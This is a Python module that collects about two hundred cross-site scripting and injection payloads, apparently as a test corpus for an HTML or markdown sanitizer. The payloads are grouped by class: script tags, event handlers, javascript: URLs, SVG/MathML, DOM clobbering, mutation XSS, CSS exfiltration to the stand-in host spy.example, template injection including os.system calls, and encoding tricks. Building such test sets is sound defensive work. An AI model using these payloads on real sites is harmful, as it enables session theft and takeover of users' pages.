"""Our own collection of text that a careless page would run, fetch or be taken over by.

Each class is one way in. What runs sets ``window.xss``; what fetches asks spy.example. Written
after the ways that are publicly known, not copied from anyone's list.
"""

from itertools import product

RUN = "window.xss=1"
SPY = "https://spy.example"


def _scripts() -> tuple[str, ...]:
    return (
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<script\n>{RUN}</script\n>",
        f"<script/x>{RUN}</script/x>",
        f"<script type=module>{RUN}</script>",
        f"<script type=text/javascript>{RUN}//</script>",
        f"<script async>{RUN}</script>",
        f"<script src={SPY}/a.js></script>",
        f'<script src="data:text/javascript,{RUN}"></script>',
        "<script src=//spy.example></script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"</script><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</noscript><script>{RUN}</script>",
        f"--><script>{RUN}</script><!--",
        f"]]><script>{RUN}</script>",
        f'"><script>{RUN}</script>',
        f"'><script>{RUN}</script>",
        f"\u2028<script>{RUN}</script>\u2029",
        f"<noscript><p title='</noscript><script>{RUN}</script>'>",
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f"<object data='data:text/html,<script>opener.{RUN}</script>'></object>",
        f"<embed src='data:text/html,<script>{RUN}</script>'>",
    )


def _handlers() -> tuple[str, ...]:
    by_themselves = (
        f"<img src=x onerror={RUN}>",
        f"<img src=x:x onerror='{RUN}'>",
        f'<img src=x onerror="{RUN}"//',
        f"<img/src=x/onerror={RUN}>",
        f"<IMG SRC=x OnErRoR={RUN}>",
        f"<img src=x\tonerror\n=\n{RUN}>",
        f"<image src=x onerror={RUN}>",
        f"<picture><source srcset=x><img onerror={RUN} src=y></picture>",
        f"<video src=x onerror={RUN}></video>",
        f"<video><source onerror={RUN} src=x></video>",
        f"<audio src=x onerror={RUN}></audio>",
        f"<body onload={RUN}>",
        f"<body onpageshow={RUN}>",
        f"<details open ontoggle={RUN}><summary>x</summary></details>",
        f"<input autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}></select>",
        f"<textarea autofocus onfocus={RUN}></textarea>",
        f"<button autofocus onfocus={RUN}>x</button>",
        f"<p tabindex=0 autofocus onfocus={RUN}>x</p>",
        f"<object data=x: onerror={RUN}></object>",
        f"<link rel=stylesheet href=x: onerror={RUN}>",
        f"<script src=x: onerror={RUN}></script>",
        f"<style onload={RUN}></style>",
        f"<iframe onload={RUN}></iframe>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
        f'" onmouseover="{RUN}" x="',
        f"' onfocus='{RUN}' autofocus='",
        f"` onmouseover=`{RUN}",
    )
    tags = ("div", "a href=#", "mark", "li", "section")
    events = ("onpointerenter", "onanimationstart", "onscrollend")
    return by_themselves + tuple(
        f"<{tag} {event}={RUN} style=position:fixed;inset:0>x</{tag.split()[0]}>"
        for tag, event in product(tags, events)
    )


def _schemes() -> tuple[str, ...]:
    addresses = (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" javascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"\x01javascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"&#106;avascript:{RUN}",
        f"javascript://%0a{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cueHNzPTE8L3NjcmlwdD4=",
        f"vbscript:{RUN}",
        f"view-source:{SPY}",
        f"blob:{SPY}/x",
    )
    others = (
        f"<form action='javascript:{RUN}'><button>x</button></form>",
        f"<button formaction='javascript:{RUN}'>x</button>",
        f"<iframe src='javascript:parent.{RUN}'></iframe>",
        f"<base href='javascript:{RUN}//'><a href=x>x</a>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        f"<area href='javascript:{RUN}'>",
        f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    )
    return tuple(f'<a href="{address}">klicka</a>' for address in addresses) + others


def _drawings() -> tuple[str, ...]:
    return (
        f"<svg onload={RUN}></svg>",
        f"<svg/onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script xlink:href='data:,{RUN}'></script></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><animate attributeName=href values='javascript:{RUN}' dur=1s></svg>",
        f"<svg><set onbegin={RUN} attributename=x></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'></use></svg>",
        f"<svg><image href=x onerror={RUN}></svg>",
        f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
        f"<svg><style>@import '{SPY}';</style></svg>",
        f"<svg><handler type=text/javascript>{RUN}</handler></svg>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></math>",
        f"<math><mi//xlink:href='data:x,{RUN}'>",
    )


def _clobbering() -> tuple[str, ...]:
    names = "attributes body childNodes cookie currentScript getElementById parentNode".split()
    return (
        *(f"<img name={name}>" for name in names),
        *(f"<a id={name}></a><a id={name} name=x href={SPY}></a>" for name in ("config", "say")),
        "<form id=svar><input name=innerHTML></form>",
        "<form><input name=nodeName><input name=attributes></form>",
        "<div id=kallinnehall>falsk panel</div>",
        "<div id=upplast role=status>falskt besked</div>",
        "<li id=kalla-1><a class=visa href=//spy.example>x</a></li>",
        "<ol class=kallista><li id=kalla-2></li></ol>",
        "<textarea id=falt name=falt>falskt</textarea>",
        "<div class='tur klart fel'><h2 tabindex=-1>x</h2></div>",
        "<div class=svarspass hidden>%7B%22status%22%3A%22answered%22%7D</div>",
        "<object id=navigator></object><embed name=location>",
    )


def _mutation() -> tuple[str, ...]:
    img = f"<img src=x onerror={RUN}>"
    return (
        f"<math><mtext><table><mglyph><style><!--</style>{img}--></style>",
        f"<math><mtext><table><mglyph><style>{img}</style></table></mtext></math>",
        f"<svg></p><style><a id='</style>{img}'>",
        f"<form><math><mtext></form><form><mglyph><style></math>{img}",
        f"<noscript><style></noscript>{img}</style>",
        f"<svg><style><img title='</style>{img}'></style></svg>",
        f"<table><td><a title='</td></table>{img}'>",
        f"<select><template><style></select>{img}",
        f"<template><s><template><s>{img}</s></template></s></template>",
        f"<xmp><p title='</xmp>{img}'></p>",
        f"<listing>&lt;{img}</listing>",
        f"<plaintext>{img}",
        f"<iframe><p title='</iframe>{img}'></iframe>",
        f"<noembed><p title='</noembed>{img}'></noembed>",
        f"<!--><{img[1:]}-->",
        f"<!--a--!>{img}",
        f"<![CDATA[{img}]]>",
        f"<?xml x='?>{img}'?>",
        f"</p></li></ul></section></div>{img}",
        f"<a title='`>{img}`'>x</a>",
        f"<b><i></b>{img}</i>",
        f"<svg><p><title><style></title>{img}</style></svg>",
    )


def _styles() -> tuple[str, ...]:
    return (
        f"<style>@import url({SPY}/a.css);</style>",
        f"<style>body{{background:url({SPY}/b)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({SPY}/f)}}*{{font-family:x}}</style>",
        f"<style>input[value^=a]{{background:url({SPY}/a)}}</style>",
        "<style>*{display:none!important}</style>",
        f"<link rel=stylesheet href={SPY}/s.css>",
        f"<link rel=preload as=image href={SPY}/p.png>",
        f"<link rel=prefetch href={SPY}/p>",
        f"<div style='background:url({SPY}/c)'>x</div>",
        f"<div style='background-image:image-set(url({SPY}/d) 1x)'>x</div>",
        f"<div style='width:expression({RUN})'>x</div>",
        f"<div style='behavior:url({SPY}/x.htc)'>x</div>",
        f"<div style='list-style:url({SPY}/e)'>x</div>",
        "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>täcker</div>",
        f"<table background={SPY}/g><td>x</td></table>",
        f"<p style='cursor:url({SPY}/h),auto'>x</p>",
        f"<img src={SPY}/q.png>",
        f"<video poster={SPY}/v.png></video>",
    )


def _templates() -> tuple[str, ...]:
    return (
        "{{7*7}}",
        "{{constructor.constructor('window.xss=1')()}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% import 'os' as os %}{{ os.system('id') }}",
        "{% raw %}{{ texts }}{% endraw %}{{ root }}",
        "{{ '<script>window.xss=1</script>' | safe }}",
        "{#<!--#}<script>window.xss=1</script>{#-->#}",
        "${window.xss=1}",
        "`${window.xss=1}`",
        "#{window.xss=1}",
        "<%= window.xss=1 %>",
        "[[${window.xss=1}]]",
        "{@html '<img src=x onerror=window.xss=1>'}",
        "<x-template v-html=\"'<img src=x onerror=window.xss=1>'\">",
        "<div x-data x-init=window.xss=1>x</div>",
        "<div ng-app>{{$eval.constructor('window.xss=1')()}}</div>",
        "%7B%7B7*7%7D%7D",
        "{0.__class__} {title.__init__.__globals__}",
        "%(title)s %s %n",
    )


def _markdown() -> tuple[str, ...]:
    return (
        f"[klicka](javascript:{RUN})",
        f"[klicka](<javascript:{RUN}>)",
        f"[klicka](&#106;avascript:{RUN})",
        f"[klicka][1]\n\n[1]: javascript:{RUN}",
        f"[klicka](data:text/html,<script>{RUN}</script>)",
        f"![bild]({SPY}/p.png)",
        f'![bild](x "onerror={RUN}")',
        f'![x](x"onerror="{RUN})',
        f"![][1]\n\n[1]: {SPY}/p.png",
        f"<javascript:{RUN}>",
        f"<{SPY}>",
        f"\n\n<img src=x onerror={RUN}>\n\n# Rubrik",
        f"```html\n<script>{RUN}</script>\n```",
        f"~~~\n</code></pre><script>{RUN}</script>\n~~~",
        f"`<script>{RUN}</script>`",
        f"$$\\href{{javascript:{RUN}}}{{x}}$$ och $x$",
        f"\\(\\href{{javascript:{RUN}}}{{x}}\\)",
        f"\\[\\includegraphics{{{SPY}/x}}\\]",
        f"```mermaid\ngraph TD; a-->b; click a 'javascript:{RUN}'\n```",
        f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
        f"> <img src=x onerror={RUN}>\n- [ ] x",
        f"*[x](javascript:{RUN})* **<svg onload={RUN}>**",
    )


def _signs() -> tuple[str, ...]:
    return (
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"&#x3c;img src=x onerror={RUN}&#x3e;",
        f"&#0000060img src=x onerror={RUN}&#62",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"%253Cscript%253E{RUN}%253C/script%253E",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"\\x3cimg src=x onerror={RUN}\\x3e",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\ufe64img src=x onerror={RUN}\ufe65",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        "\u202e>tpircs/<1=ssx.wodniw>tpircs<\u202c",
        f"<\u200bscript>{RUN}</\u200bscript>",
        f"<s\u0441ript>{RUN}</s\u0441ript>",
        f"<\u017fcript>{RUN}</\u017fcript>",
        f"<\u0131mg src=x onerror={RUN}>",
        f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
        f"<img src=x onerror&equals;{RUN}>",
        "<img src=x onerror=&#119;indow.xss=1>",
        f"<a href=&#x6A;&#x61;vascript:{RUN}>x</a>",
        f"&NewLine;<img src=x onerror={RUN}>&Tab;",
        f"<i\u00admg src=x onerror={RUN}>",
    )


BY_CLASS = {
    "script": _scripts(),
    "event handler": _handlers(),
    "URL scheme": _schemes(),
    "SVG and MathML": _drawings(),
    "DOM clobbering": _clobbering(),
    "mutation": _mutation(),
    "CSS": _styles(),
    "template": _templates(),
    "markdown": _markdown(),
    "entity and Unicode": _signs(),
}

PAYLOADS = tuple(payload for payloads in BY_CLASS.values() for payload in payloads)
